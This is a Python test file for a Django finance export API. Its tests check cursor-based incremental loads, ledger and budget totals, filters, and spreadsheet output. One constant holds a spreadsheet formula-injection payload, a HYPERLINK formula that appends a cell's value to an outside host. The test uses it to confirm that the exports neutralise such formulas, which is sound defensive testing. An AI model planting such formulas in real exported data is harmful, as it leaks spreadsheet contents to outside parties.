"""Story 9: finance pulls everything that costs money, once each, and a spreadsheet opens it.

The token is made on finance's page; the rest is what a nightly program does, over real connections.
"""

import csv
import io
import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from decimal import Decimal
from threading import Event
from typing import Any
from urllib.request import Request, urlopen

import openpyxl
import pyarrow.parquet
import pytest
from django.db import connection
from django.utils import timezone
from pytest_django.live_server_helper import LiveServer

from budgets.models import LedgerEntry
from employees.models import Employee
from tests.cast import Cast, bring_in
from tests.companies import FORNO, SCM
from tests.pages import client_of, value_of
from tests.putting_right import put_right, so_many, so_much
from tests.tokens import secret_in

pytestmark = pytest.mark.django_db(transaction=True)

TRICK = '=HYPERLINK("http://example.com/?" & A1)'


class Machine:
    """A program with a machine's token."""

    def __init__(self, server: str, token: str) -> None:
        self.exports = f"{server}/api/v1/exports"
        self.headers = {"Authorization": f"Bearer {token}"}
        self.cursor = "beginning"

    def file(self, export: str, query: str = "") -> bytes:
        address = f"{self.exports}/{export}/?{query}"
        with urlopen(Request(address, headers=self.headers), timeout=30) as answer:
            return bytes(answer.read())

    def rows(self, export: str, query: str = "") -> list[dict[str, str]]:
        told = self.file(export, f"format=csv&{query}").decode()
        return list(csv.DictReader(io.StringIO(told, newline="")))

    def what_is_new(self, export: str) -> list[dict[str, Any]]:
        """Each line as it comes, and the cursor kept for the next time once all have arrived."""
        told = self.file(export, f"format=jsonl&after={self.cursor}")
        *rows, last = [json.loads(line) for line in told.splitlines()]
        assert last["end"]["rows"] == len(rows)
        self.cursor = last["end"]["next"]
        return rows


@pytest.fixture
def companies(head_office: dict[str, Employee]) -> list[Cast]:
    """Two of the group's divisions, in two currencies."""
    return [bring_in(FORNO), bring_in(SCM)]


@pytest.fixture
def machine(live_server: LiveServer, companies: list[Cast], head_office: Any) -> Machine:
    """A nightly program, with a token that finance has made for it on the page."""
    finance, page = client_of(head_office["finance"]), "/finance/tokens/"
    form = finance.get(page)
    told = {
        "name": "Nightly load",
        "exports": ["ledger", "resolutions", "budgets"],
        "every_division": "on",
        "last_day": value_of(form, "last_day"),
        "request_id": value_of(form, "request_id"),
    }
    return Machine(live_server.url, secret_in(finance.post(page, told)))


def give(company: Cast, remedy: str, amount: str, **told: Any) -> None:
    problem = {"reason_code": next(iter(company.reasons)), **told}
    put_right(company.agent, so_much(remedy, amount), at=timezone.now(), **problem)


@contextmanager
def agents_at_work(companies: list[Cast]) -> Iterator[None]:
    """In each company someone gives something, again and again, until the end of the block."""
    is_over = Event()

    def work(company: Cast) -> None:
        remedy = "money-off" if company.division.currency == "USD" else "bill-credit"
        try:
            while not is_over.is_set():
                give(company, remedy, "0.05")
        finally:
            connection.close()

    with ThreadPoolExecutor() as threads:
        works = [threads.submit(work, company) for company in companies]
        try:
            yield
        finally:
            is_over.set()
        for each in works:
            each.result()


def test_every_entry_arrives_exactly_once_also_while_agents_work(
    machine: Machine, companies: list[Cast]
) -> None:
    arrived: list[dict[str, Any]] = []
    with agents_at_work(companies):
        while len(arrived) < 100:
            arrived += machine.what_is_new("ledger")
    arrived += machine.what_is_new("ledger")

    assert machine.what_is_new("ledger") == []
    numbers = sorted(row["id"] for row in arrived)
    assert numbers == list(LedgerEntry.objects.order_by("pk").values_list("pk", flat=True))


def test_the_ledger_adds_up_to_the_budgets_to_the_cent(
    machine: Machine, companies: list[Cast]
) -> None:
    forno, scm = companies
    give(forno, "money-off", "7.35")
    put_right(forno.colleague, so_many("free-pizza"), so_many("reorder"), at=timezone.now())
    give(scm, "bill-credit", "35.00")

    sums: dict[str, Decimal] = {}
    for entry in machine.rows("ledger"):
        budget = entry["budget_id"]
        sums[budget] = sums.get(budget, Decimal(0)) + Decimal(entry["amount"])
    budgets = machine.rows("budgets")
    assert {row["id"]: Decimal(row["left"]) for row in budgets} == sums
    spent = {row["employee"]: (row["spent"], row["currency"]) for row in budgets}
    assert spent[forno.agent.username] == ("7.35", "USD")
    assert spent[forno.colleague.username] == ("9.00", "USD")
    assert spent[scm.agent.username] == ("35.00", "AUD")


def test_it_is_filtered_by_period_team_currency_and_remedy(
    machine: Machine, companies: list[Cast]
) -> None:
    forno, scm = companies
    give(forno, "money-off", "7.35")
    give(forno, "voucher", "5.00")
    give(scm, "bill-credit", "35.00")

    def costs(query: str) -> list[str]:
        return [row["cost"] for row in machine.rows("resolutions", query)]

    assert costs("") == ["7.35", "3.00", "35.00"]
    assert costs("currency=USD") == ["7.35", "3.00"]
    assert costs(f"team={forno.agent.team}&remedy=voucher") == ["3.00"]
    assert costs(f"month={timezone.localdate(timezone=scm.agent.zone):%Y-%m}&division=scm") == [
        "35.00"
    ]
    assert costs("month=2026-01") == []


def test_a_spreadsheet_opens_it_and_no_cell_runs(machine: Machine, companies: list[Cast]) -> None:
    forno = companies[0]
    give(forno, "money-off", "7.35", order_reference=TRICK)
    give(forno, "money-off", "0.10", order_reference="ORD-1881")

    book = openpyxl.load_workbook(io.BytesIO(machine.file("resolutions", "format=xlsx")))
    head, *rows = book.worksheets[0].iter_rows()
    place = {cell.value: number for number, cell in enumerate(head)}
    tricks = [row[place["order_reference"]] for row in rows]
    assert [(cell.value, cell.data_type) for cell in tricks] == [(TRICK, "s"), ("ORD-1881", "s")]
    assert tricks[0].quotePrefix
    costs = [Decimal(str(row[place["cost"]].value)) for row in rows]
    assert sum(costs) == Decimal("7.45")

    cells = [row["order_reference"] for row in machine.rows("resolutions")]
    assert cells == [f"'{TRICK}", "ORD-1881"]
    table = pyarrow.parquet.read_table(
        io.BytesIO(machine.file("resolutions", "format=parquet&columns=cost,order_reference"))
    )
    assert sum(table["cost"].to_pylist()) == Decimal("7.45")
    assert table["order_reference"].to_pylist() == [TRICK, "ORD-1881"]
